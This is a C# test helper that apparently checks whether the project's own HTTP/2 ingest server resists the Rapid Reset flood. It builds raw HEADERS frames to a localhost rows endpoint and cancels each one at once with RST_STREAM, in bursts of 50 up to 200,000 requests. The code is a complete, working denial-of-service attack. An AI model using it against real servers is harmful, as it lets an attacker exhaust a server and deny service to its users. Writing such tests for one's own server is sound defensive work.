using System.Buffers.Binary;
using System.Text;

namespace Ingest.Tests.Node;

/// <summary>
/// HTTP/2 (RFC 9113) frame by frame, for what a client does that means harm: it begins requests and cancels each at
/// once, so that none counts against the limit of requests at a time while the server is busy with all of them.
/// </summary>
internal static class RapidReset
{
    private const byte Headers = 1;
    private const byte Reset = 3;
    private const byte Settings = 4;
    private const byte EndHeaders = 4;
    private const int Together = 50;

    // Enough for any server to notice.
    private const int Requests = 200_000;

    /// <summary>Attacks until the server hangs up.</summary>
    /// <returns>False where it did not.</returns>
    public static async Task<bool> RunAsync(Stream connection, CancellationToken stop)
    {
        try
        {
            await connection.WriteAsync(Encoding.ASCII.GetBytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), stop);
            await connection.WriteAsync(Frame(Settings, 0, 0, []), stop);
            var closed = ReadToEndAsync(connection, stop);
            for (var stream = 1; stream < 2 * Requests && !closed.IsCompleted; stream += 2 * Together)
            {
                var burst = Enumerable.Range(0, Together)
                    .SelectMany(number => Request(stream + (2 * number))).ToArray();
                await connection.WriteAsync(burst, stop);
            }

            return await closed;
        }
        catch (IOException)
        {
            return true;
        }
        catch (OperationCanceledException)
        {
            return false;
        }
    }

    private static async Task<bool> ReadToEndAsync(Stream connection, CancellationToken stop)
    {
        var buffer = new byte[16 * 1024];
        try
        {
            while (await connection.ReadAsync(buffer, stop) > 0) { }
            return true;
        }
        catch (IOException)
        {
            return true;
        }
        catch (OperationCanceledException)
        {
            return false;
        }
    }

    /// <summary>A POST of rows whose body never comes, and its end.</summary>
    private static byte[] Request(int stream)
    {
        // RFC 7541: indexed fields of the static table, and literals without indexing.
        List<byte> fields = [0x83, 0x87];
        Literal(fields, 4, "/v1/tables/items/rows");
        Literal(fields, 1, "localhost");
        // Of fields whose index does not fit four bits, the rest is in a second byte: content-type is 31.
        fields.AddRange([0x0F, 31 - 15]);
        Text(fields, "application/x-ndjson");
        return [.. Frame(Headers, EndHeaders, stream, [.. fields]), .. Frame(Reset, 0, stream, [0, 0, 0, 8])];
    }

    private static void Literal(List<byte> fields, byte name, string value)
    {
        fields.Add(name);
        Text(fields, value);
    }

    private static void Text(List<byte> fields, string value)
    {
        fields.Add((byte)value.Length);
        fields.AddRange(Encoding.ASCII.GetBytes(value));
    }

    private static byte[] Frame(byte type, byte flags, int stream, byte[] payload)
    {
        var frame = new byte[9 + payload.Length];
        BinaryPrimitives.WriteInt32BigEndian(frame, payload.Length << 8);
        frame[3] = type;
        frame[4] = flags;
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
        payload.CopyTo(frame, 9);
        return frame;
    }
}
